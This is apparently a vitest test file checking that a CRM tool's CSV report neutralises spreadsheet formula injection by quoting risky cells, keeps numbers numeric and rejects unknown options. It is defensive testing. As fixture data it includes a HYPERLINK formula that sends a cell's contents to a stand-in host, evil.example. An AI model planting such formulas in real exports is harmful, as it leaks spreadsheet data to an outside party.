import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { LeadEvent } from '../../src/domain/events.js';
import { reportCsv } from '../../src/cli/report.js';
import { applyForecastProcess, at, play } from '../support/forecast-fixtures.js';
import { openStore } from '../../src/store/db.js';
import { freshDatabaseUrl } from '../support/stores.js';
import { ONE_LINE_ERROR, session, type CliResult } from './helpers.js';

/**
 * `stageflow report --format csv` on text a lead's submitter controls: a cell a spreadsheet would
 * run as a formula starts with a quote (OWASP), numbers stay numbers; and an option the report
 * does not read is a one-line error, exit 1.
 */

const NOW = '2026-12-10T12:00:00Z';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const created = (lead: string, owner: string, source: string, value: number): LeadEvent => ({
  type: 'lead.created',
  lead,
  owner,
  fields: { source, value },
});

describe('stageflow report --format csv', () => {
  let cli: (args: readonly string[], now?: string) => Promise<CliResult>;

  beforeAll(async () => {
    const url = await freshDatabaseUrl('sqlite');
    const store = await openStore(url);
    try {
      await applyForecastProcess(store, at('2026-09-01T00:00:00Z'));
      await play(store, [
        ['2026-11-02T10:00:00Z', created('L1', 'anna', FORMULA, 1000)],
        ['2026-11-02T11:00:00Z', created('L2', 'ben', '@SUM(1+1)', 500)],
        ['2026-11-02T12:00:00Z', created('L3', 'cleo', '-2+3', 200)],
        ['2026-11-02T13:00:00Z', created('L4', 'cleo', 'web', 300)],
        ['2026-11-10T10:00:00Z', { type: 'lead.won', lead: 'L1' }],
        ['2026-11-10T11:00:00Z', { type: 'lead.won', lead: 'L2' }],
        ['2026-11-10T12:00:00Z', { type: 'lead.won', lead: 'L3' }],
        ['2026-11-10T13:00:00Z', { type: 'lead.lost', lead: 'L4', reason: 'no budget' }],
      ]);
    } finally {
      await store.close();
    }
    cli = session(url);
  });

  it('prefixes a quote to text cells a spreadsheet would run as a formula; plain text and numbers stay', async () => {
    const r = await cli(['report', 'win-rate', '--from', '2026-11-01', '--by', 'source', '--format', 'csv'], NOW);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { comment: '#', columns: true, cast: false }) as Record<string, string>[];
    expect(rows.map((row) => [row['source'], row['won'], row['lost']])).toEqual([
      [`'-2+3`, '1', '0'],
      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, '1', '0'],
      [`'@SUM(1+1)`, '1', '0'],
      ['web', '0', '1'],
    ]);
  });

  it('keeps a negative number a number, in rows and summary alike', () => {
    const layout = { columns: ['source', 'gap'], units: {}, nullLabels: {}, zone: 'UTC', currency: 'EUR' };
    const out = { report: 'x', from: '2026-11-01', to: '2026-12-01', by: null, pipeline: null };
    const csv = reportCsv(
      { ...out, rows: [{ source: '+1', gap: -0.25 }], summary: { owner: '=1+1', delta: -3 } },
      layout,
    );
    expect(csv.split('\n').filter((l) => !/^#,(report|from|to|by|pipeline),/.test(l))).toEqual([
      'source,gap',
      `'+1,-0.25`,
      `#,summary,owner,'=1+1`,
      '#,summary,delta,-3',
      '',
    ]);
  });

  it('refuses an option the report does not read: one line, exit 1', async () => {
    for (const [report, option, value] of [
      ['win-rate', '--period', '2026-10'],
      ['deal-size', '--owner', 'anna'],
      ['cycle', '--window', '30'],
      ['coaching', '--period', '2026-10'],
    ] as const) {
      const r = await cli(['report', report, option, value, '--format', 'csv'], NOW);
      expect([r.code, r.stdout]).toEqual([1, '']);
      expect(r.stderr).toMatch(ONE_LINE_ERROR);
      expect(r.stderr).toBe(`stageflow: ${report} has no ${option} option\n`);
    }
  });
});
